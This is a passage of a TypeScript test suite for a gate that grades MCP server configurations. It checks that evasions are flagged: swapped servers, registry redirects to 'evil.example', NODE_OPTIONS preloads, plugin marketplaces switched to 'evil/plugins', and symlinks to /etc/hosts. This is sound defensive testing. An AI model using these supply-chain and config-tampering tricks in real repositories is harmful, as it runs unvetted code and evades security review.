/*
 * Tests attempts to evade the gate: changes that add a server or replace a graded one, hoping to pass for an
 * existing server. Each is judged as the action judges it, with the base's policy and the fictional export,
 * and none may go unnoticed.
 */
import { mkdir, mkdtemp, rm, symlink, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { afterEach, describe, expect, test } from 'vitest';
import { type GitRepository, openGit } from '../../../src/io/files/git.ts';
import type { FileSource } from '../../../src/io/files/tree.ts';
import { type BaseFound, findBase } from '../../../src/io/github/base.ts';
import type { EventBase } from '../../../src/io/github/event-base.ts';
import { judgedCommit } from '../../../src/io/github/judged-commit.ts';
import type { Report } from '../../../src/judging/report.ts';
import { sourceOf } from '../../builders.ts';
import { exportDocument } from '../../export-service/corpus.ts';
import { createBase, judgeFiles } from '../../gate/pipeline/judge-files.ts';
import { commitAll, git, initialise } from '../../runner/git.ts';

/** Contents by path: texts, or values that are written as JSON. */
type Files = Readonly<Record<string, unknown>>;

const textOf = (content: unknown): string =>
  typeof content === 'string' ? content : JSON.stringify(content, null, 2);

const repository = (files: Files): FileSource =>
  sourceOf(new Map(Object.entries(files).map(([path, content]) => [path, textOf(content)])));

const today = new Date('2026-11-20T06:00:00Z');
const exported = Buffer.from(JSON.stringify(exportDocument(today)));

/** Judges a tree as the action would. */
const judge = (
  head: FileSource,
  base: BaseFound,
  around: { inputs?: Record<string, string>; folder?: string } = {},
): Promise<Report> =>
  judgeFiles(head, { base, ...around, exported, now: today.getTime() + 3_600_000 });

/** Returns the verdict and the rules that concern the change, such as `fail: unlisted, grade-lost`. */
function summaryOf({ verdict, servers, problems }: Report): string {
  const rules = [
    ...servers.flatMap((server) => (server.isCounted ? server.problems : [])),
    ...problems,
  ].map(({ rule }) => rule);
  return `${verdict}: ${[...new Set(rules)].sort().join(', ')}`;
}

const judged = async (
  base: Files,
  head: Files,
  inputs: Record<string, string> = {},
): Promise<string> =>
  summaryOf(await judge(repository(head), createBase(repository(base)), { inputs }));

/** Builds `.mcp.json` with these servers: for each alias a command line, an address or a complete entry. */
function mcp(servers: Readonly<Record<string, string | object>>): object {
  const entries = Object.entries(servers).map(([alias, launch]) => {
    if (typeof launch !== 'string') return [alias, launch];
    const [command, ...args] = launch.split(' ');
    return [alias, launch.includes('://') ? { url: launch } : { command, args }];
  });
  return { mcpServers: Object.fromEntries(entries) };
}

const good = 'npx -y @fictional-mcp/notes@1.4.0';
const other = 'npx -y @fictional-mcp/mail@1.1.0';
const bad = 'npx -y @fictional-mcp/files@1.2.0';
const unknown = 'npx -y unheard-of-server@1.0.0';
const entry = (launch: string, more: object = {}): object => {
  const [command, ...args] = launch.split(' ');
  return { command, args, ...more };
};
const with1 = (launch: string | object) => ({ '.mcp.json': mcp({ notes: launch }) });

describe('the graded server gives way to one of which nothing is known', () => {
  test.for<[string, Files, Files]>([
    ['under the same alias', with1(good), with1(unknown)],
    ['under another alias', with1(good), { '.mcp.json': mcp({ jots: unknown }) }],
    ['by an address', with1(good), with1('https://unheard-of.example/mcp')],
    ['by a launch that hides it', with1(good), with1(`npx -y \${PACKAGE}`)],
    [
      'by an image that cannot be scanned',
      with1(good),
      with1('docker run registry.example/fictional/maps:2.0.1'),
    ],
    ['behind a bridge', with1(good), with1('npx mcp-remote https://unheard-of.example/mcp')],
    [
      'in a file with a new name',
      { 'app/.mcp.json': mcp({ notes: good }) },
      { 'server/.mcp.json': mcp({ notes: unknown }) },
    ],
    [
      'in a file with a new name, under another alias',
      { 'app/.mcp.json': mcp({ notes: good }) },
      { 'server/.mcp.json': mcp({ jots: unknown }) },
    ],
    ['for another client', with1(good), { '.cursor/mcp.json': mcp({ notes: unknown }) }],
    [
      'for another client, under another alias',
      with1(good),
      { '.cursor/mcp.json': mcp({ jots: unknown }) },
    ],
    [
      'while it stays under another alias',
      with1(good),
      { '.mcp.json': mcp({ old: good, notes: unknown }) },
    ],
    [
      'while it stays under another alias with another argument',
      with1(good),
      { '.mcp.json': mcp({ old: `${good} --all`, notes: unknown }) },
    ],
    [
      'while it moves to another file',
      with1(good),
      { '.mcp.json': mcp({ notes: unknown }), '.cursor/mcp.json': mcp({ old: good }) },
    ],
    [
      'while both move to another file',
      with1(good),
      { '.cursor/mcp.json': mcp({ old: good, notes: unknown }) },
    ],
    [
      'while it stays, switched off',
      { '.roo/mcp.json': mcp({ notes: good }) },
      { '.roo/mcp.json': mcp({ old: entry(good, { disabled: true }), jots: unknown }) },
    ],
    [
      'while it stays under its alias, switched off',
      { '.roo/mcp.json': mcp({ notes: good }) },
      { '.roo/mcp.json': mcp({ notes: entry(good, { disabled: true }), jots: unknown }) },
    ],
    ['behind another graded one', with1(good), { '.mcp.json': mcp({ a: other, b: unknown }) }],
    ['before another graded one', with1(good), { '.mcp.json': mcp({ a: unknown, b: other }) }],
    [
      'behind code of the project',
      { ...with1(good), 'a.js': '' },
      { '.mcp.json': mcp({ a: 'node a.js', b: unknown }), 'a.js': '' },
    ],
    [
      'behind code of the project, in one script',
      { ...with1(good), 'a.js': '' },
      {
        ...with1('npm run mcp'),
        'a.js': '',
        'package.json': { scripts: { mcp: `node a.js & ${unknown}` } },
      },
    ],
    [
      'in the order of one that was never graded',
      { '.mcp.json': mcp({ a: good, b: unknown }) },
      { '.mcp.json': mcp({ c: 'node a.js', d: 'npx -y never-heard-of@1.0.0' }), 'a.js': '' },
    ],
    [
      'behind a record that only has its name',
      with1(good),
      with1('npx -y fictional-mcp-clock@1.0.0'),
    ],
    [
      'by another registry',
      with1(good),
      with1(`npx -y --registry=https://evil.example ${good.slice(7)}`),
    ],
  ])('%s', async ([, base, head]) => {
    const result = await judged(base, head);
    expect(result).toMatch(/^fail: /);
    expect(result).toContain('grade-lost');
  });

  test.for<[string, Files, Files, string]>([
    ['one graded server for another', with1(good), with1(other), 'pass: '],
    [
      'an ungraded server beside it',
      with1(good),
      { '.mcp.json': mcp({ notes: good, new: unknown }) },
      'warn: unlisted',
    ],
    [
      'an ungraded one for another',
      with1(unknown),
      with1('npx -y never-heard-of@1.0.0'),
      'warn: unlisted',
    ],
    [
      'an ungraded one for another beside a graded one',
      { '.mcp.json': mcp({ a: good, b: unknown }) },
      { '.mcp.json': mcp({ a: other, b: 'npx -y never-heard-of@1.0.0' }) },
      'warn: unlisted',
    ],
    [
      'another alias, and an ungraded server elsewhere',
      with1(good),
      { '.mcp.json': mcp({ jots: good }), 'app/.mcp.json': mcp({ notes: unknown }) },
      'warn: unlisted',
    ],
    [
      'an ungraded launch more in its script',
      { ...with1('sh run.sh'), 'run.sh': `${good}\n` },
      { ...with1('sh run.sh'), 'run.sh': `${good}\n${unknown}\n` },
      'warn: unlisted',
    ],
  ])('but not: %s', async ([, base, head, expected]) => {
    expect(await judged(base, head)).toBe(expected);
  });
});

const switched = (server: object) => ({ '.roo/mcp.json': mcp({ files: server }) });
const plugin = (name: string, repo: string) => ({
  '.claude/settings.json': {
    enabledPlugins: { [`${name}@acme`]: true },
    extraKnownMarketplaces: { acme: { source: { source: 'github', repo } } },
  },
});
const script = (text: string) => ({
  ...with1('npm run mcp'),
  'package.json': { scripts: { mcp: text } },
});
const locked = (packages: object) => ({
  ...with1('npm run notes'),
  'package.json': {
    scripts: { notes: 'notes' },
    dependencies: { '@fictional-mcp/files': '^1.2.0' },
  },
  'package-lock.json': {
    lockfileVersion: 3,
    packages: { '': { dependencies: { '@fictional-mcp/files': '^1.2.0' } }, ...packages },
  },
});
const files = (version: string, more: object = {}) => ({
  'node_modules/@fictional-mcp/files': { version, bin: { notes: 'cli.js' }, ...more },
});
const offered = (repo: string) => ({
  '.claude/settings.json': { enabledPlugins: { 'notes@acme': true } },
  '.claude-plugin/marketplace.json': {
    name: 'acme',
    plugins: [{ name: 'notes', source: { source: 'github', repo } }],
  },
});
const workflow = (text: string) => ({
  '.github/workflows/agent.yml': `jobs:\n  a:\n    steps:\n      - run: |\n          ${text}\n`,
});

describe('a failing server comes in by another way', () => {
  test.for<[string, Files, Files]>([
    [
      'a copy of a file that was there',
      { 'app/.mcp.json': mcp({ files: bad }) },
      { 'app/.mcp.json': mcp({ files: bad }), '.mcp.json': mcp({ files: bad }) },
    ],
    ['for another client', with1(bad), { ...with1(bad), '.cursor/mcp.json': mcp({ notes: bad }) }],
    ['switched on', switched(entry(bad, { disabled: true })), switched(entry(bad))],
    [
      'switched on by an entry of another file',
      { 'opencode.json': { mcp: { files: { command: bad.split(' '), enabled: false } } } },
      {
        'opencode.json': { mcp: { files: { command: bad.split(' '), enabled: false } } },
        'opencode.jsonc': { mcp: { files: { enabled: true } } },
      },
    ],
    ['by the version of an argument', with1('npx -y @fictional-mcp/files@1.5.0'), with1(bad)],
    ['by a lockfile alone', locked(files('1.5.0')), locked(files('1.2.0'))],
    [
      'by a candidate’s lockfile alone',
      { ...locked(files('1.5.0')), '.mcp.json': '{}' },
      { ...locked(files('1.2.0')), '.mcp.json': '{}' },
    ],
    ['by a script of package.json', script(good), script(bad)],
    [
      'by what comes before a script',
      { ...script(good) },
      { ...with1('npm run mcp'), 'package.json': { scripts: { mcp: good, premcp: bad } } },
    ],
    [
      'by a shell script',
      { ...with1('sh run.sh'), 'run.sh': good },
      { ...with1('sh run.sh'), 'run.sh': bad },
    ],
    [
      'by a script that a script calls',
      { ...script('sh run.sh'), 'run.sh': good },
      { ...script('sh run.sh'), 'run.sh': bad },
    ],
    [
      'by a folder',
      {
        ...with1('npm run mcp'),
        'package.json': { scripts: { mcp: good } },
        'b/package.json': { scripts: { mcp: bad } },
      },
      {
        ...with1(entry('npm run mcp', { cwd: 'b' })),
        'package.json': { scripts: { mcp: good } },
        'b/package.json': { scripts: { mcp: bad } },
      },
    ],
    [
      'by a workspace’s member that moves',
      {
        ...with1('npm run mcp -w tool'),
        'package.json': { workspaces: ['*'] },
        'a/package.json': { name: 'tool', scripts: { mcp: good } },
        'b/package.json': { name: 'x', scripts: { mcp: bad } },
      },
      {
        ...with1('npm run mcp -w tool'),
        'package.json': { workspaces: ['*'] },
        'a/package.json': { name: 'x', scripts: { mcp: good } },
        'b/package.json': { name: 'tool', scripts: { mcp: bad } },
      },
    ],
    [
      'by a default',
      with1(`npx -y \${PACKAGE:-@fictional-mcp/notes@1.4.0}`),
      with1(`npx -y \${PACKAGE:-@fictional-mcp/files@1.2.0}`),
    ],
    [
      'by a step of a workflow',
      workflow(`claude mcp add notes -- ${good}`),
      workflow(`claude mcp add notes -- ${bad}`),
    ],
    [
      'by a plugin’s manifest',
      {
        '.claude-plugin/plugin.json': { mcpServers: './a.json' },
        'a.json': mcp({ notes: good }),
        'b.json': mcp({ notes: bad }),
      },
      {
        '.claude-plugin/plugin.json': { mcpServers: './b.json' },
        'a.json': mcp({ notes: good }),
        'b.json': mcp({ notes: bad }),
      },
    ],
    [
      'by the file of a plugin',
      { '.claude-plugin/plugin.json': { mcpServers: './a.json' }, 'a.json': mcp({ notes: good }) },
      { '.claude-plugin/plugin.json': { mcpServers: './a.json' }, 'a.json': mcp({ notes: bad }) },
    ],
    [
      'by a package manifest',
      { 'package.json': { dependencies: {} } },
      { 'package.json': { dependencies: { '@fictional-mcp/files': '1.2.0' } } },
    ],
    [
      'among a thousand files',
      {},
      Object.fromEntries(
        Array.from({ length: 1001 }, (_, at) => [
          `p${at}/.mcp.json`,
          mcp({ notes: at === 789 ? bad : good }),
        ]),
      ),
    ],
    ['under a name in capitals', with1(good), { ...with1(good), '.MCP.json': mcp({ notes: bad }) }],
  ])('%s', async ([, base, head]) => {
    expect(await judged(base, head)).toMatch(/^fail: .*below-minimum/);
  });
});

const unchanged = 'pass: ';
const altered = (launch: object, more: Files = {}): Files => ({
  ...with1({ ...entry(good), ...launch }),
  ...more,
});
const byBun = (more: Files): Files => ({
  ...locked(files('1.5.0')),
  ...with1('bun run notes'),
  ...more,
});
/** Changes that alter a launch in another way; the base already alters it with a different value. */
const alterations: readonly (readonly [string, Files, Files])[] = [
  [
    'NODE_OPTIONS',
    altered({ env: { NODE_OPTIONS: '-r ./a.js' } }),
    altered({ env: { NODE_OPTIONS: '-r ./b.js' } }),
  ],
  ['PATH', altered({ env: { PATH: './a' } }), altered({ env: { PATH: './b' } })],
  [
    'a mirror for another',
    altered({ env: { npm_config_registry: 'https://a.example/' } }),
    altered({ env: { npm_config_registry: 'https://b.example/' } }),
  ],
  [
    'the file that NODE_OPTIONS loads',
    altered({ env: { NODE_OPTIONS: '-r ./a.js' } }, { 'a.js': '1' }),
    altered({ env: { NODE_OPTIONS: '-r ./a.js' } }, { 'a.js': '2' }),
  ],
  [
    'the settings that a variable names',
    altered(
      { env: { npm_config_userconfig: './ci.npmrc' } },
      { 'ci.npmrc': 'registry=https://a.example' },
    ),
    altered(
      { env: { npm_config_userconfig: './ci.npmrc' } },
      { 'ci.npmrc': 'registry=https://b.example' },
    ),
  ],
  [
    '.npmrc',
    altered({}, { '.npmrc': 'registry=https://a.example' }),
    altered({}, { '.npmrc': 'registry=https://b.example' }),
  ],
  ['.npmrc that comes', altered({}), altered({}, { '.npmrc': 'registry=https://b.example' })],
  ['.NPMRC that comes', altered({}), altered({}, { '.NPMRC': 'registry=https://b.example' })],
  [
    'one of two equal keys of .npmrc',
    altered({}, { '.npmrc': 'registry=https://a.example\nregistry=https://b.example' }),
    altered({}, { '.npmrc': 'registry=https://b.example\nregistry=https://a.example' }),
  ],
  [
    'a file of variables',
    altered({ envFile: '.env' }, { '.env': 'NODE_OPTIONS=-r ./a.js' }),
    altered({ envFile: '.env' }, { '.env': 'NODE_OPTIONS=-r ./b.js' }),
  ],
  [
    '.yarnrc.yml',
    {
      ...with1('yarn dlx @fictional-mcp/notes@1.4.0'),
      '.yarnrc.yml': 'npmRegistryServer: https://a.example',
    },
    {
      ...with1('yarn dlx @fictional-mcp/notes@1.4.0'),
      '.yarnrc.yml': 'npmRegistryServer: https://b.example',
    },
  ],
  [
    'an anchor of .yarnrc.yml',
    {
      ...with1('yarn dlx @fictional-mcp/notes@1.4.0'),
      '.yarnrc.yml': 'a: &r https://a.example\nnpmRegistryServer: *r\n',
    },
    {
      ...with1('yarn dlx @fictional-mcp/notes@1.4.0'),
      '.yarnrc.yml': 'a: &r https://b.example\nnpmRegistryServer: *r\n',
    },
  ],
  [
    'bunfig.toml',
    byBun({ 'bunfig.toml': '[install]\nregistry = "https://a.example"' }),
    byBun({ 'bunfig.toml': '[install]\nregistry = "https://b.example"' }),
  ],
  [
    'a scope of bunfig.toml',
    byBun({ 'bunfig.toml': '[install.scopes]\n"@fictional-mcp" = "https://a.example"' }),
    byBun({ 'bunfig.toml': '[install.scopes]\n"@fictional-mcp" = "https://b.example"' }),
  ],
  [
    'pnpm-workspace.yaml',
    {
      ...with1('pnpm dlx @fictional-mcp/notes@1.4.0'),
      'pnpm-workspace.yaml': 'registry: https://a.example',
    },
    {
      ...with1('pnpm dlx @fictional-mcp/notes@1.4.0'),
      'pnpm-workspace.yaml': 'registry: https://b.example',
    },
  ],
  [
    'uv.toml',
    {
      ...with1('uv run --with fictional-mcp-weather fictional-mcp-weather'),
      'uv.toml': 'index-url = "https://a.example"',
    },
    {
      ...with1('uv run --with fictional-mcp-weather fictional-mcp-weather'),
      'uv.toml': 'index-url = "https://b.example"',
    },
  ],
  [
    'a hook',
    with1({ url: 'https://mcp.fictional.example/search', headersHelper: './a.sh' }),
    with1({ url: 'https://mcp.fictional.example/search', headersHelper: './b.sh' }),
  ],
  [
    'the word of a lockfile',
    locked(files('1.5.0', { resolved: 'git+ssh://git@a.example/a.git#1' })),
    locked(files('1.5.0', { resolved: 'git+ssh://git@b.example/b.git#1' })),
  ],
  [
    'a patch of the project',
    { ...locked(files('1.5.0')), 'patches/@fictional-mcp+files+1.5.0.patch': 'a' },
    { ...locked(files('1.5.0')), 'patches/@fictional-mcp+files+1.5.0.patch': 'b' },
  ],
];

describe('an altered launch is altered in another way', () => {
  test.for([...alterations])('%s', async ([, base, head]) => {
    expect(await judged(base, head)).toMatch(/^fail: .*altered-launch/);
  });

  test.for([...alterations])('but not, where it stays as it is: %s', async ([, , head]) => {
    expect(await judged(head, { ...head, 'README.md': 'x' })).toBe(unchanged);
  });

  test('one accepted mirror for one that is not', async () => {
    const policy = { '.github/mcp-grade-gate.yml': 'registries: ["npm=https://a.example/"]\n' };
    const by = (registry: string) => altered({ env: { npm_config_registry: registry } }, policy);
    for (const registry of [
      'https://b.example/',
      'https://a.example/b',
      'https://a.example@b.example/',
      'http://a.example/',
      'https://a.example:444/',
    ]) {
      expect(await judged(by('https://a.example/'), by(registry))).toMatch(
        /^fail: .*altered-launch/,
      );
    }
    expect(await judged(by('https://b.example/'), by('https://a.example/'))).toBe(unchanged);
  });
});

describe('what is hidden is hidden in another way', () => {
  const hidden = (more: object) =>
    with1({ command: 'sh', args: ['-c', 'npx -y "$PACKAGE"'], ...more });
  test.for<[string, Files, Files]>([
    ['a variable of a shell', hidden({ env: { PACKAGE: 'a' } }), hidden({ env: { PACKAGE: 'b' } })],
    [
      'a variable of an argument',
      with1({ command: 'npx', args: ['-y', `\${PACKAGE}`], env: { PACKAGE: 'a' } }),
      with1({ command: 'npx', args: ['-y', `\${PACKAGE}`], env: { PACKAGE: 'b' } }),
    ],
    [
      'a variable of a script',
      {
        ...with1({ command: 'sh', args: ['run.sh'], env: { PACKAGE: 'a' } }),
        'run.sh': 'npx -y "$PACKAGE"',
      },
      {
        ...with1({ command: 'sh', args: ['run.sh'], env: { PACKAGE: 'b' } }),
        'run.sh': 'npx -y "$PACKAGE"',
      },
    ],
    [
      'a file of variables',
      { ...hidden({ envFile: '.env' }), '.env': 'PACKAGE=a' },
      { ...hidden({ envFile: '.env' }), '.env': 'PACKAGE=b' },
    ],
    [
      'the marketplace of a plugin',
      plugin('notes', 'acme/plugins'),
      plugin('notes', 'evil/plugins'),
    ],
    [
      'the marketplace, which another file names',
      {
        '.claude/settings.json': { enabledPlugins: { 'notes@acme': true } },
        '.claude/settings.local.json': {
          extraKnownMarketplaces: { acme: { source: { source: 'github', repo: 'acme/plugins' } } },
        },
      },
      {
        '.claude/settings.json': { enabledPlugins: { 'notes@acme': true } },
        '.claude/settings.local.json': {
          extraKnownMarketplaces: { acme: { source: { source: 'github', repo: 'evil/plugins' } } },
        },
      },
    ],
    [
      'an expression of a step',
      workflow('claude mcp add notes -- npx -y ${{ vars.A }}'),
      workflow('claude mcp add notes -- npx -y ${{ vars.B }}'),
    ],
    ['the source of a plugin that the tree offers', offered('acme/notes'), offered('evil/notes')],
  ])('%s', async ([, base, head]) => {
    expect(await judged(base, head)).toBe('warn: unidentified');
    expect(await judged(head, { ...head, 'README.md': 'x' })).toBe(unchanged);
  });

  test('but not by a variable that it does not name', async () => {
    const [base, head] = ['a', 'b'].map((TOKEN) => hidden({ env: { PACKAGE: 'a', TOKEN } }));
    expect(await judged(base ?? {}, head ?? {})).toBe(unchanged);
  });
});

describe('a file that cannot be understood', () => {
  test.for<[string, Files, Files]>([
    ['instead of one that can', with1(good), { '.mcp.json': '{' }],
    ['instead of another', { '.mcp.json': '{ a' }, { '.mcp.json': '{ b' }],
    ['in another place', { 'a/.mcp.json': '{' }, { '.mcp.json': '{' }],
    [
      'with a key that occurs twice',
      with1(good),
      {
        '.mcp.json':
          '{"mcpServers": {"notes": {"command": "npx", "args": ["@fictional-mcp/notes"], "args": ["evil"]}}}',
      },
    ],
    [
      'with the second of two equal keys edited',
      {
        '.mcp.json':
          '{"mcpServers": {"notes": {"command": "npx", "args": ["@fictional-mcp/notes"], "args": ["a"]}}}',
      },
      {
        '.mcp.json':
          '{"mcpServers": {"notes": {"command": "npx", "args": ["@fictional-mcp/notes"], "args": ["b"]}}}',
      },
    ],
  ])('%s', async ([, base, head]) => {
    expect(await judged(base, head)).toMatch(/^fail: .*unparsable-file/);
  });

  test('is nobody’s fault where it was there before', async () => {
    const base = { '.mcp.json': '{\n', 'README.md': 'a' };
    expect(await judged(base, { ...base, 'README.md': 'b' })).toBe(unchanged);
    expect(await judged(base, { ...base, '.mcp.json': '{\r\n' })).toBe(unchanged);
  });
});

const spaces: string[] = [];
const opened: GitRepository[] = [];
afterEach(async () => {
  for (const each of opened.splice(0)) each.close();
  for (const each of spaces.splice(0)) await rm(each, { recursive: true, force: true });
});

async function newRepository(): Promise<string> {
  const root = await mkdtemp(join(tmpdir(), 'evasion-'));
  spaces.push(root);
  await initialise(root);
  return root;
}

const linkTo = (link: string) => ({ link });
const isLink = (content: unknown): content is { link: string } =>
  typeof content === 'object' && content !== null && Object.keys(content).join() === 'link';

/** Replaces everything in a repository with these files, commits them and returns the commit's ID. */
async function commit(root: string, files: Files): Promise<string> {
  await git(root, 'rm', '-r', '-q', '-f', '--ignore-unmatch', '.');
  for (const [path, content] of Object.entries(files)) {
    const file = join(root, path);
    await mkdir(dirname(file), { recursive: true });
    if (isLink(content)) await symlink(content.link, file);
    else await writeFile(file, Buffer.isBuffer(content) ? content : textOf(content));
  }
  return commitAll(root);
}

/** Judges the checked-out commit according to the event. */
async function judgeCheckout(
  root: string,
  event: Partial<EventBase>,
  options: Parameters<typeof judge>[2] = {},
): Promise<Report> {
  const repository = await openGit(root);
  if ('reason' in repository) throw new Error(repository.reason);
  opened.push(repository);
  const nothing = {
    base: null,
    head: null,
    sha: null,
    ref: null,
    baseBranch: 'main',
    defaultBranch: 'main',
  };
  const found = await findBase({ event: 'pull_request', ...nothing, ...event }, repository);
  const head = await judgedCommit({ event: 'pull_request', ...nothing, ...event }, repository);
  if (head === null) throw new Error('no commit');
  return judge(repository.checkoutFiles(head), found, options);
}

async function judgedOnDisk(base: Files, head: Files, options = {}): Promise<string> {
  const root = await newRepository();
  const before = await commit(root, base);
  const after = await commit(root, head);
  return summaryOf(await judgeCheckout(root, { base: before, head: after, sha: after }, options));
}

describe('in a real repository', () => {
  const lfs = (oid: string): string =>
    `version https://git-lfs.github.com/spec/v1\noid sha256:${oid.repeat(64)}\nsize 9\n`;
  const large = (launch: string): string => textOf(mcp({ notes: launch })).padEnd(1_100_000);
  test.for<[string, Files, Files, RegExp]>([
    [
      'a server out of vendored code',
      { 'vendor/.mcp.json': mcp({ files: bad }) },
      { '.mcp.json': mcp({ files: bad }) },
      /^fail: .*below/,
    ],
    [
      'a server out of node_modules',
      { 'node_modules/a/.mcp.json': mcp({ files: bad }) },
      { 'a/.mcp.json': mcp({ files: bad }) },
      /^fail: .*below/,
    ],
    [
      'a link retargeted',
      { '.mcp.json': linkTo('a.json'), 'a.json': mcp({ a: good }), 'b.json': mcp({ a: bad }) },
      { '.mcp.json': linkTo('b.json'), 'a.json': mcp({ a: good }), 'b.json': mcp({ a: bad }) },
      /^fail: .*below/,
    ],
    [
      'a link’s target edited',
      { '.mcp.json': linkTo('a.json'), 'a.json': mcp({ a: good }) },
      { '.mcp.json': linkTo('a.json'), 'a.json': mcp({ a: bad }) },
      /^fail: .*below/,
    ],
    [
      'a linked folder retargeted',
      { '.cursor': linkTo('a'), 'a/mcp.json': mcp({ a: good }), 'b/mcp.json': mcp({ a: bad }) },
      { '.cursor': linkTo('b'), 'a/mcp.json': mcp({ a: good }), 'b/mcp.json': mcp({ a: bad }) },
      /^fail: .*below/,
    ],
    [
      'a linked folder more',
      { 'b/.cursor': linkTo('../x'), 'x/mcp.json': mcp({ a: bad }) },
      { 'a/.cursor': linkTo('../x'), 'b/.cursor': linkTo('../x'), 'x/mcp.json': mcp({ a: bad }) },
      /^fail: .*below/,
    ],
    [
      'a link instead of a file',
      with1(good),
      { '.mcp.json': linkTo('a.json'), 'a.json': mcp({ a: bad }) },
      /^fail: .*below/,
    ],
    [
      'the way to a program',
      { ...with1('node current/a.js'), current: linkTo('a'), 'a/a.js': '', 'b/a.js': '' },
      { ...with1('node current/a.js'), current: linkTo('b'), 'a/a.js': '', 'b/a.js': '' },
      /^pass: $/,
    ],
    [
      'the way to a program, by a second link',
      {
        ...with1('node current/a.js'),
        current: linkTo('next'),
        next: linkTo('a'),
        'a/a.js': '',
        'b/a.js': '',
      },
      {
        ...with1('node current/a.js'),
        current: linkTo('next'),
        next: linkTo('b'),
        'a/a.js': '',
        'b/a.js': '',
      },
      /^pass: $/,
    ],
    [
      'a program that becomes a link',
      { ...with1('node a.js'), 'a.js': '' },
      { ...with1('node a.js'), 'a.js': linkTo('node_modules/x/a.js') },
      /^warn: unidentified/,
    ],
    [
      '.npmrc that becomes a link',
      altered({}, { '.npmrc': '' }),
      altered({}, { '.npmrc': linkTo('x'), x: 'registry=https://b.example' }),
      /^fail: .*altered-launch/,
    ],
    [
      'the target of a linked .npmrc',
      altered({}, { '.npmrc': linkTo('x'), x: 'registry=https://a.example' }),
      altered({}, { '.npmrc': linkTo('x'), x: 'registry=https://b.example' }),
      /^fail: .*altered-launch/,
    ],
    [
      'the target of a linked .npmrc that cannot be read',
      altered(
        {},
        { '.npmrc': linkTo('x'), x: Buffer.from('registry=https://a.example \xff', 'latin1') },
      ),
      altered(
        {},
        { '.npmrc': linkTo('x'), x: Buffer.from('registry=https://b.example \xff', 'latin1') },
      ),
      /^fail: .*altered-launch/,
    ],
    [
      'a file that grows too large',
      with1(good),
      { '.mcp.json': large(bad) },
      /^fail: unparsable-file/,
    ],
    [
      'a large file for another',
      { '.mcp.json': large(good) },
      { '.mcp.json': large(bad) },
      /^fail: unparsable-file/,
    ],
    ['a file out of Git LFS', with1(good), { '.mcp.json': lfs('a') }, /^fail: unparsable-file/],
    [
      'a file of Git LFS for another',
      { '.mcp.json': lfs('a') },
      { '.mcp.json': lfs('b') },
      /^fail: unparsable-file/,
    ],
    [
      'a file that is no UTF-8',
      with1(good),
      { '.mcp.json': Buffer.from(textOf(mcp({ a: bad })), 'utf16le') },
      /^fail: unparsable-file/,
    ],
    [
      'no UTF-8 for other',
      { '.mcp.json': Buffer.from('mcpServers command \xff', 'latin1') },
      { '.mcp.json': Buffer.from('mcpServers command \xfe', 'latin1') },
      /^fail: unparsable-file/,
    ],
    [
      'a link out of the repository for a file',
      with1(good),
      { '.mcp.json': linkTo('/etc/hostname') },
      /^fail: unparsable-file/,
    ],
    [
      'a link out of the repository for another',
      { '.mcp.json': linkTo('/etc/hostname') },
      { '.mcp.json': linkTo('/etc/hosts') },
      /^fail: unparsable-file/,
    ],
    [
      'a link out of the repository by another',
      { '.mcp.json': linkTo('a'), a: linkTo('/etc/hostname') },
      { '.mcp.json': linkTo('a'), a: linkTo('/etc/hosts') },
      /^fail: unparsable-file/,
    ],
  ])('%s', async ([, base, head, expected]) => {
    expect(await judgedOnDisk(base, head)).toMatch(expected);
  });

  test.for<[string, Files]>([
    ['a link out of the repository', { '.mcp.json': linkTo('/etc/hostname') }],
    ['a linked folder out of it', { '.cursor': linkTo('/etc') }],
    ['a large file', { '.mcp.json': large(bad) }],
    ['a file of Git LFS', { '.mcp.json': lfs('a') }],
    ['a server by a linked folder', { '.cursor': linkTo('a'), 'a/mcp.json': mcp({ a: bad }) }],
    [
      'a program behind a link',
      { ...with1('node current/a.js'), current: linkTo('a'), 'a/a.js': '' },
    ],
  ])('but not what was there before: %s', async ([, base]) => {
    expect(await judgedOnDisk(base, { ...base, 'README.md': 'x' })).toBe(unchanged);
  });

  test('a folder that the base does not have brings in all of it', async () => {
    const app = { 'app/.mcp.json': mcp({ files: bad }) };
    expect(await judgedOnDisk({ 'a.txt': '' }, app, { folder: 'app' })).toMatch(/^fail: .*below/);
    const linked = { app: linkTo('other'), 'other/.mcp.json': mcp({ files: bad }) };
    expect(await judgedOnDisk({ app: linkTo('gone') }, linked, { folder: 'app' })).toMatch(
      /^fail: .*below/,
    );
    expect(await judgedOnDisk(linked, { ...linked, a: '' }, { folder: 'app' })).toBe(unchanged);
  });

  test('a submodule whose place another repository takes', async () => {
    const root = await newRepository();
    const base = await commit(root, { 'a.txt': '', 'tools/.mcp.json': mcp({ files: good }) });
    await git(root, 'rm', '-r', '-q', 'tools');
    await mkdir(join(root, 'tools'));
    await git(join(root, 'tools'), 'init', '-q');
    await commit(join(root, 'tools'), { '.mcp.json': mcp({ files: bad }) });
    const head = await commitAll(root);
    const report = await judgeCheckout(root, { base, head, sha: head });
    expect(summaryOf(report)).toMatch(/^fail: .*below/);
  });
});

const policyFile = '.github/mcp-grade-gate.yml';
const strict = { [policyFile]: 'preset: strict\n' };
const soft = { [policyFile]: 'preset: report-only\n' };

describe('the base is chosen by nobody who is judged', () => {
  const clean = { 'a.txt': '' };

  test('a push is judged by the policy that it holds', async () => {
    const root = await newRepository();
    const base = await commit(root, { ...clean, ...strict });
    const head = await commit(root, { ...with1(unknown), ...strict });
    expect(summaryOf(await judgeCheckout(root, { event: 'push', base, head, sha: head }))).toBe(
      'fail: unlisted',
    );
  });
});

describe('the policy is chosen by nobody who is judged', () => {
  const ungraded = with1(unknown);
  test.for<[string, Files, Files, Record<string, string>]>([
    ['edited', strict, { ...ungraded, ...soft }, {}],
    ['deleted', strict, ungraded, {}],
    ['moved', strict, { ...ungraded, '.github/mcp-grade-gate.yaml': 'preset: strict\n' }, {}],
    [
      'with a waiver more',
      strict,
      {
        ...ungraded,
        [policyFile]:
          'preset: strict\nwaivers:\n  - { match: "pkg:npm/unheard-of-server", rule: unlisted, reason: x, expires: 2027-01-01 }\n',
      },
      {},
    ],
    [
      'with what is ignored',
      strict,
      { ...ungraded, [policyFile]: 'preset: strict\nignore-paths: [".mcp.json"]\n' },
      {},
    ],
    [
      'a link to a milder one',
      strict,
      { ...ungraded, [policyFile]: linkTo('../mild.yml'), 'mild.yml': 'preset: report-only\n' },
      {},
    ],
    [
      'one of the change’s own, by config-file',
      { ...strict, 'policy/base.yml': 'preset: strict\n' },
      { ...ungraded, ...strict, 'policy/base.yml': 'preset: report-only\n' },
      { 'config-file': 'policy/base.yml' },
